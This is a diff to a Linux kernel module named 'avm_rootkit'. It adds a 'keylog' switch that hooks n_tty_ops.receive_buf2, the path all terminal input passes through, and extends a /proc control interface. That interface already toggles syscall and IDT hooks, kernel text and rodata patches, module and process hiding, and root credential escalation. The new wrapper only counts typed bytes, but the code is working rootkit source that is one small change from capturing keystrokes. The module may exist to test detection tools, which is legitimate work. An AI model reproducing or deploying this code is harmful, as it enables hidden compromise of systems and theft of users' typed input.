@@ -17,6 +17,9 @@
  * to the real handler), text (one byte of __x64_sys_kexec_load after its
  * fentry site), rodata (one letter of a BTF type name changes case), fops
  * (tcp_prot.init -> a module wrapper that counts and calls the original),
+ * keylog (n_tty_ops.receive_buf2, the line discipline every terminal's input
+ * goes through, -> a module wrapper that counts the bytes and calls the
+ * original; tty_ldiscs[N_TTY] itself stays as it was),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), root_pid (a task's cred ids set to 0),
  * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
@@ -48,6 +51,9 @@
 #include <linux/err.h>
 #include <linux/btf.h>
 #include <linux/irqflags.h>
+#include <linux/version.h>
+#include <linux/tty.h>
+#include <linux/tty_ldisc.h>
 #include <net/sock.h>
 #include <net/tcp.h>
 #include <asm/desc.h>
@@ -289,6 +295,52 @@ static int set_fops(bool on)
 		WRITE_ONCE(tcp_prot.init, orig_tcp_init);
 	}
 	fops_on = on;
+	return 0;
+}
+
+/* ---- (e') keylog: n_tty_ops.receive_buf2 (a structure in writable .data
+ * that tty_ldiscs[N_TTY] points at; the entry itself is left alone) ---- */
+
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 6, 0)
+typedef size_t rb2_ret_t;
+typedef const u8 rb2_cp_t;
+typedef const u8 rb2_fp_t;
+typedef size_t rb2_count_t;
+#else
+typedef int rb2_ret_t;
+typedef const unsigned char rb2_cp_t;
+typedef const char rb2_fp_t;
+typedef int rb2_count_t;
+#endif
+
+static struct tty_ldisc_ops *n_tty_ops_p;
+static rb2_ret_t (*orig_receive_buf2)(struct tty_struct *, rb2_cp_t *, rb2_fp_t *, rb2_count_t);
+static atomic_t tty_bytes_seen = ATOMIC_INIT(0);
+static bool keylog_on;
+
+/* Counts what is typed (a real keylogger would keep it) and passes it on. */
+static rb2_ret_t hook_receive_buf2(struct tty_struct *tty, rb2_cp_t *cp, rb2_fp_t *fp,
+				   rb2_count_t count)
+{
+	atomic_add((int)count, &tty_bytes_seen);
+	return orig_receive_buf2(tty, cp, fp, count);
+}
+
+static int set_keylog(bool on)
+{
+	if (on == keylog_on)
+		return 0;
+	if (!n_tty_ops_p)
+		return -ENOENT;
+	if (on) {
+		orig_receive_buf2 = READ_ONCE(n_tty_ops_p->receive_buf2);
+		if (!orig_receive_buf2)
+			return -ENOENT;
+		WRITE_ONCE(n_tty_ops_p->receive_buf2, hook_receive_buf2);
+	} else {
+		WRITE_ONCE(n_tty_ops_p->receive_buf2, orig_receive_buf2);
+	}
+	keylog_on = on;
 	return 0;
 }
 
@@ -586,25 +638,28 @@ static int untree_task(pid_t nr)
 static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
-			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nhide_module %d\n"
+			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nhide_module %d\n"
 			 "hide_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
-			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\n"
-			 "tcp_prot_init %s\n"
+			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
+			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
-			 syscall_on, idt_on, text_on, rodata_on, fops_on, module_hidden,
+			 syscall_on, idt_on, text_on, rodata_on, fops_on, keylog_on, module_hidden,
 			 hidden_task ? hidden_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
+			 atomic_read(&tty_bytes_seen),
 			 READ_ONCE(tcp_prot.init) == hook_tcp_init ? "module" : "kernel",
+			 n_tty_ops_p && READ_ONCE(n_tty_ops_p->receive_buf2) == hook_receive_buf2 ?
+				 "module" : "kernel",
 			 (unsigned long)sct, idt ? (unsigned long)&idt[RK_VECTOR] : 0,
 			 (unsigned long)text_byte, (unsigned long)rodata_byte);
 }
 
 static ssize_t rk_read(struct file *f, char __user *ubuf, size_t count, loff_t *ppos)
 {
-	char buf[512];
+	char buf[768];
 	int len;
 
 	mutex_lock(&rk_lock);
@@ -637,6 +692,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = set_rodata(val);
 	else if (!strcmp(name, "fops"))
 		err = set_fops(val);
+	else if (!strcmp(name, "keylog"))
+		err = set_keylog(val);
 	else if (!strcmp(name, "hide_module"))
 		err = set_hide_module(val);
 	else if (!strcmp(name, "hide_pid"))
@@ -699,6 +756,7 @@ static int __init rk_init(void)
 	module_mutex_p = (struct mutex *)lookup("module_mutex");
 	modules_p = (struct list_head *)lookup("modules");
 	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
+	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
 
 	rk_entry = proc_create("avm_rootkit", 0600, NULL, &rk_ops);
 	if (!rk_entry)
@@ -717,6 +775,7 @@ static void __exit rk_exit(void)
 	set_text(false);
 	set_rodata(false);
 	set_fops(false);
+	set_keylog(false);
 	set_hide_module(false);
 	hide_task(0);
 	root_task(0, false);
